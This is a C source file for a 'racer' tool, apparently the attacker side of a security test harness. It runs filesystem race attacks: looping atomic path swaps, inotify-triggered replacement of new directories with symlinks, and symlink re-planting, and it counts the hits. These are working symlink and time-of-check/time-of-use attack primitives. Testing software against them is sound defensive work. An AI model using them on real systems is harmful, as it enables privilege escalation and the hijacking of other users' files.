/*
 * The attacker's tight loops, run as the banger uid. Node's fs calls go through a thread pool
 * and cannot exchange two names atomically, so the races that need microseconds live here.
 *
 *   racer exchange A B HOLD_US      swap A and B (renameat2 RENAME_EXCHANGE) until SIGTERM,
 *                                   holding each state HOLD_US; ends with A and B as they began
 *   racer steal DIR SUBSTR TARGET   whenever a directory whose name contains SUBSTR appears in
 *                                   DIR, rename it to NAME.stolen-N and put a symlink to TARGET
 *                                   there (the symlink's own creation does not trigger again)
 *   racer replant TARGET PATH US    keep PATH a symlink to TARGET: recreate it whenever it is gone
 *   racer exchange-on DIR SUBSTR A:B   whenever an entry whose name contains SUBSTR appears in
 *                                   DIR, exchange A and B (one atomic RENAME_EXCHANGE)
 *
 * On SIGTERM each prints one line "swaps=N hits=M fails=F errno=NAME": successful swaps (or
 * re-plants), the hits that landed while the watched operation ran, the attempts the kernel
 * refused and the errno of the last refusal. A watch the kernel refuses (no read access to
 * DIR) is one refusal; the racer then idles until SIGTERM so the caller's report is uniform.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;
static long swaps, hits, fails;
static int last_errno;

static void refused(void) {
  fails++;
  last_errno = errno;
}

static void on_term(int sig) {
  (void)sig;
  stop = 1;
}

static int exchange(const char *a, const char *b) {
  return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static int run_exchange(const char *a, const char *b, long hold) {
  while (!stop) {
    if (exchange(a, b) == 0) swaps++;
    else refused();
    if (hold > 0) usleep((useconds_t)hold);
  }
  if (swaps % 2 == 1 && exchange(a, b) == 0) swaps++;
  return 0;
}

/* Both inotify modes: wait for a name containing SUBSTR to appear in DIR, then act on it. */
static int run_watch(const char *dir, const char *substr, const char *target, const char *a, const char *b) {
  int fd = inotify_init1(0);
  if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE | IN_MOVED_TO) < 0) {
    refused();
    printf("watch refused: %s\n", strerror(errno));
    fflush(stdout);
    while (!stop) pause();
    return 0;
  }
  printf("watching\n");
  fflush(stdout);
  char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
  while (!stop) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) continue;
    for (char *p = buf; p < buf + n;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      p += sizeof *ev + ev->len;
      if (ev->len == 0 || strstr(ev->name, substr) == NULL || strstr(ev->name, ".stolen-") != NULL) continue;
      if (a != NULL) {
        if (exchange(a, b) == 0) {
          swaps++;
          hits++;
          printf("exchanged on %s\n", ev->name);
          fflush(stdout);
        } else {
          refused();
        }
        continue;
      }
      if (!(ev->mask & IN_ISDIR)) continue;
      char src[4096], dst[4200];
      snprintf(src, sizeof src, "%s/%s", dir, ev->name);
      snprintf(dst, sizeof dst, "%s.stolen-%ld", src, swaps++);
      if (rename(src, dst) == 0 && symlink(target, src) == 0) {
        hits++;
        printf("stole %s\n", ev->name);
        fflush(stdout);
      } else {
        refused();
      }
    }
  }
  return 0;
}

static int run_replant(const char *target, const char *path, long hold) {
  while (!stop) {
    if (symlink(target, path) == 0) hits++;
    else if (errno != EEXIST) refused();
    swaps++;
    if (hold > 0) usleep((useconds_t)hold);
  }
  return 0;
}

int main(int argc, char **argv) {
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);
  int rc = 64;
  if (argc == 5 && strcmp(argv[1], "exchange") == 0) rc = run_exchange(argv[2], argv[3], atol(argv[4]));
  else if (argc == 5 && strcmp(argv[1], "steal") == 0) rc = run_watch(argv[2], argv[3], argv[4], NULL, NULL);
  else if (argc == 5 && strcmp(argv[1], "exchange-on") == 0 && strchr(argv[4], ':') != NULL) {
    char *b = strchr(argv[4], ':');
    *b++ = '\0';
    rc = run_watch(argv[2], argv[3], NULL, argv[4], b);
  }
  else if (argc == 5 && strcmp(argv[1], "replant") == 0) rc = run_replant(argv[2], argv[3], atol(argv[4]));
  else fprintf(stderr, "usage: racer exchange A B HOLD_US | steal DIR SUBSTR TARGET | replant TARGET PATH HOLD_US | exchange-on DIR SUBSTR A:B\n");
  printf("swaps=%ld hits=%ld fails=%ld errno=%s\n", swaps, hits, fails, last_errno ? strerrorname_np(last_errno) : "none");
  return rc;
}
